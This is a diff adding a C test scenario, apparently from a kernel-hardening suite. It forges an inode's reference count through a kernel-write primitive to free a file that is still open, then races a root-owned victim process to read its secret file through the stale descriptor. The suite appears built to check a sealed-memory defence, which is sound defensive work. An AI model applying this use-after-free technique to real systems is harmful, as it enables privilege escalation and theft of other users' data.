@@ -1,0 +1,85 @@
+// SPDX-License-Identifier: GPL-2.0-only
+#include "helper_program.h"
+
+ATTACK("cred_integrity", "inode_freed_in_use",
+       "cred_integrity: a file freed while a name leads to it",
+       "The program has files with two names each open, writes down the count of references of "
+       "each, and removes one name: the file is freed. Then it waits for root's program to make "
+       "a file in that place.",
+       "A file counts in sealed memory the names that lead to it; with one left it is not freed.",
+       "What the program has open is root's new file, and it reads it.");
+
+#define FILES 40
+
+static long files[FILES];
+
+static const char *numbered(char *text, const char *start, unsigned int index)
+{
+	char *end = text;
+
+	append_text(&end, start);
+	*end++ = (char)('a' + index / 10);
+	*end++ = (char)('0' + index % 10);
+	*end = '\0';
+	return text;
+}
+
+static void make_dangling(unsigned int index)
+{
+	char first[32], second[32];
+
+	numbered(first, "/tmp/first", index);
+	numbered(second, "/tmp/second", index);
+	files[index] = call3(__NR_open, (long)first, O_CREAT | O_RDWR, 0600);
+	call2(__NR_link, (long)first, (long)second);
+	poke32(inode_of(files[index]) + member("inode.references"), 1);
+	call1(__NR_unlink, (long)second);
+}
+
+/* Once somebody uses the place again. */
+static bool reads_secret(unsigned int index)
+{
+	char bytes[sizeof(SECRET) - 1] = { 0 };
+
+	call4(__NR_pread64, files[index], (long)bytes, sizeof(bytes), 0);
+	return bytes_equal(bytes, SECRET, sizeof(bytes));
+}
+
+/* On the victim's processor: what is freed here is used again there. */
+static bool fire(void)
+{
+	(void)own_cpu(0);
+	for (unsigned int i = 0; i < FILES; i++)
+		make_dangling(i);
+	for (unsigned int round = 0; round < 50; round++) {
+		sleep_milliseconds(10);
+		for (unsigned int i = 0; i < FILES; i++) {
+			if (reads_secret(i))
+				return true;
+		}
+	}
+	return false;
+}
+
+static void write_secret(const char *name)
+{
+	const long file = call3(__NR_open, (long)name, O_CREAT | O_RDWR, 0600);
+
+	call3(__NR_write, file, (long)SECRET, sizeof(SECRET) - 1);
+	call1(__NR_close, file);
+}
+
+static void victim(void)
+{
+	unsigned long mask = 1;
+	char name[32];
+
+	call3(__NR_sched_setaffinity, 0, sizeof(mask), (long)&mask);
+	for (;;) {
+		for (unsigned int i = 0; i < FILES; i++)
+			write_secret(numbered(name, "/secret", i));
+		sleep_milliseconds(20);
+		for (unsigned int i = 0; i < FILES; i++)
+			call1(__NR_unlink, (long)numbered(name, "/secret", i));
+	}
+}
